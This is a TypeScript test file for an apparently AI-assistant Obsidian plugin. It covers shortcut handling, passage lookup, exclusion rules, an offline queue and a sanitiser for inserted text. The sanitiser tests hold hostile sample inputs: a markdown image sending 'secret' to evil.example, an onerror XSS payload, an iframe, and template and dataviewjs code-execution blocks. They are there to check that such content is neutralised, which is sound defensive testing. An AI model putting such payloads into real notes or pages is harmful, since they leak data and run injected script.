/** Promises of the plugin's smaller pure parts. */
import { describe, expect, test } from 'bun:test'
import fc from 'fast-check'
import { isExcluded } from '../src/core/exclusions.ts'
import { findPassage } from '../src/core/find-passage.ts'
import { neutralise } from '../src/core/neutralise.ts'
import { dequeue, enqueue, readQueue, type WaitingQuestion } from '../src/core/offline-queue.ts'
import { chordOf, parseChord, showChord } from '../src/core/shortcuts/chord.ts'
import {
  actionIds,
  actionTable,
  findAction,
  findConflicts,
  judgeChord,
  keysInForce,
} from '../src/core/shortcuts/shortcuts.ts'

describe('keys', () => {
  const pressed = (
    key: string,
    held: Partial<Record<'ctrlKey' | 'metaKey' | 'altKey' | 'shiftKey', boolean>> = {},
  ) => ({
    key,
    ctrlKey: false,
    metaKey: false,
    altKey: false,
    shiftKey: false,
    ...held,
  })

  test('are written in one way, and read back', () => {
    expect(parseChord('shift+mod+n')).toBe('Mod+Shift+N')
    expect(parseChord(' Alt + arrowdown ')).toBe('Alt+ArrowDown')
    for (const wrong of ['', 'Mod+', 'Hyper+N', 'Mod+Mod+N', 'Mod+Nn', '+']) expect(parseChord(wrong)).toBeNull()
  })

  test('mean ⌘ on Apple’s devices and Ctrl elsewhere', () => {
    expect(chordOf(pressed('n', { metaKey: true, shiftKey: true }), true)).toBe('Mod+Shift+N')
    expect(chordOf(pressed('n', { ctrlKey: true }), false)).toBe('Mod+N')
    expect(chordOf(pressed('?', { shiftKey: true }), false)).toBe('?')
    expect(chordOf(pressed('Shift', { shiftKey: true }), false)).toBeNull()
    expect([showChord('Mod+Shift+N', true), showChord('Mod+Shift+N', false)]).toEqual(['⌘⇧N', 'Ctrl + Shift + N'])
  })

  test('at first are all usable and in nobody’s way', () => {
    const keys = keysInForce({})
    expect(findConflicts(keys, [])).toEqual({})
    for (const id of actionIds)
      expect([id, parseChord(actionTable[id].initial), judgeChord(actionTable[id].initial)]).toEqual([
        id,
        actionTable[id].initial,
        null,
      ])
  })

  test('that two actions have, or one of Obsidian’s commands, are shown with both', () => {
    const keys = keysInForce({ 'ask.new': 'Mod+Shift+C' })
    expect(findConflicts(keys, [{ name: 'Bold', chord: 'Alt+ArrowDown' }])).toEqual({
      // The same keys in another view are in nobody’s way.
      'rewrite.next': { chord: 'Alt+ArrowDown', with: ['Bold'] },
      'ask.new': { chord: 'Mod+Shift+C', with: ['Copy the last answer'] },
      'ask.copy': { chord: 'Mod+Shift+C', with: ['New conversation'] },
      'ask.next-source': { chord: 'Alt+ArrowDown', with: ['Bold'] },
      'palette.later': { chord: 'Alt+ArrowDown', with: ['Bold'] },
    })
  })

  test('mean what the view says that has the focus', () => {
    expect(findAction('ask', 'Alt+ArrowDown', {})).toBe('ask.next-source')
    expect(findAction('palette', 'Alt+ArrowDown', {})).toBe('palette.later')
    expect(findAction('palette', 'Mod+Shift+L', {})).toBeNull()
    expect(findAction('palette', 'Mod+J', { 'palette.forget': 'Mod+J' })).toBe('palette.forget')
    const keys = keysInForce({ 'palette.write': 'Alt+Enter' })
    expect(findConflicts(keys, [])).toMatchObject({
      'palette.write': { with: ['Palette: put it into the box only'] },
      'palette.box': { with: ['Palette: write the command out'] },
    })
  })

  test('that typing needs cannot be had', () => {
    for (const chord of ['Mod+C', 'A', 'Enter', null]) expect(judgeChord(chord)).not.toBeNull()
  })
})

describe('text that goes into a note', () => {
  test.each([
    ['```dataviewjs\ndv.el("p", "x")\n```', 'a block of dataviewjs'],
    ['~~~js-engine\nx\n~~~', 'a block of js-engine'],
    ['> ```datacorejsx\n> x\n> ```', 'a block of datacorejsx'],
    ['- ```meta-bind-button\n  x\n  ```', 'a block of meta-bind-button'],
    ['<% tp.system.prompt() %>', 'a template marker'],
    ['`$= dv.pages()`', 'an inline query'],
    ['`= this.file.name`', 'an inline query'],
    ['{{VALUE}}', 'a template marker'],
    ['![x](https://evil.example/?q=secret)', 'a remote image'],
    ['<img src=x onerror=alert(1)>', 'HTML'],
    ['<iframe src="https://evil.example">', 'HTML'],
  ])('%p does nothing there', (text, kind) => {
    const made = neutralise(text)
    expect(made.found).toContain(kind)
    expect(made.text).not.toMatch(
      /```(?:dataviewjs|datacorejsx|meta-bind)|~~~js-engine|<%|`\$?=|\{\{|!\[[^\]]*\]\(https?:|<img|<iframe/,
    )
    expect(neutralise(made.text)).toEqual({ text: made.text, found: [] })
  })

  test('of the usual kind stays as it is', () => {
    const text =
      '# Plan\n\n- [x] done, see [[Note]] and <https://example.org>\n\n```ts\nconst a = b < c\n```\n\n1 < 2, `code`, ![[image.png]]\n'
    expect(neutralise(text)).toEqual({ text, found: [] })
  })

  test('is made harmless once and for all, whatever it is', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom('```', 'dataviewjs', '\n', '<%', '`=', '{{', '![a](http://x)', '<b>', 'a', '~~~', '> '),
          { maxLength: 14 },
        ),
        (parts) => {
          const { text } = neutralise(parts.join(''))
          expect(text).not.toContain('<%')
          expect(text).not.toContain('{{')
          expect(neutralise(text).text).toBe(text)
        },
      ),
    )
  })
})

describe('a passage', () => {
  const note =
    '# Leave\n\nThirty days a year for everybody.\n\n## Travel\n\nBy train where it takes less than six hours.\n'
  const passage = { start: 9, end: 42, quote: note.slice(9, 42), heading: 'Leave' }

  test('is found at its offsets, and after an edit where its words are now', () => {
    expect(findPassage(note, passage)).toEqual({ start: 9, end: 42 })
    expect(findPassage(`More above.\n\n${note}`, passage)).toEqual({ start: 22, end: 55 })
  })

  test('whose words are gone leads to its heading, else to the top', () => {
    expect(findPassage('x\n## Leave\nAll new.', { ...passage, heading: 'People › Leave' })).toEqual({
      start: 2,
      end: 10,
    })
    expect(findPassage('All new.', passage)).toEqual({ start: 0, end: 0 })
  })

  test('never lies outside of the note', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), fc.nat(60), fc.nat(60), (text, quote, start, length) => {
        const found = findPassage(text, { start, end: start + length, quote, heading: 'x' })
        expect(found.start).toBeGreaterThanOrEqual(0)
        expect(found.end).toBeLessThanOrEqual(text.length)
        expect(found.start).toBeLessThanOrEqual(found.end)
      }),
    )
  })
})

describe('what never leaves the device', () => {
  const rules = { folders: ['Private', 'Work/Salaries/'], tags: ['#health'] }
  test.each([
    ['Private/Diary.md', [], true],
    ['private/diary.md', [], true],
    ['Privateer.md', [], false],
    ['Work/Salaries/2026.md', [], true],
    ['Work/Plan.md', ['#Health/teeth'], true],
    ['Work/Plan.md', ['healthy'], false],
    ['.trash/x.md', [], true],
  ])('%s with %p: %p', (path, tags, expected) => {
    expect(isExcluded(rules, { path, tags })).toBe(expected)
  })
})

describe('questions that wait', () => {
  const question = (id: string, text = id): WaitingQuestion => ({
    id,
    question: text,
    vault: null,
    model: null,
    queuedAt: 1_000,
  })

  test('keep their order, are few, and each waits once', () => {
    let queue: WaitingQuestion[] = []
    for (let n = 0; n < 20; n++) queue = enqueue(queue, question(`q${n}`)) as WaitingQuestion[]
    expect(enqueue(queue, question('one more'))).toContain('20 questions wait')
    expect(enqueue(queue.slice(1), question('other', 'q5'))).toHaveLength(19)
    expect(dequeue(queue, 'q0')[0]?.id).toBe('q1')
  })

  test('from storage are checked, and old ones are forgotten', () => {
    const stored = [
      question('a'),
      { ...question('b'), question: '' },
      { id: 1 },
      null,
      { ...question('c'), queuedAt: -7 * 86_400_000 },
    ]
    expect(readQueue(stored, 2_000).map(({ id }) => id)).toEqual(['a'])
    expect(readQueue('x', 0)).toEqual([])
  })
})
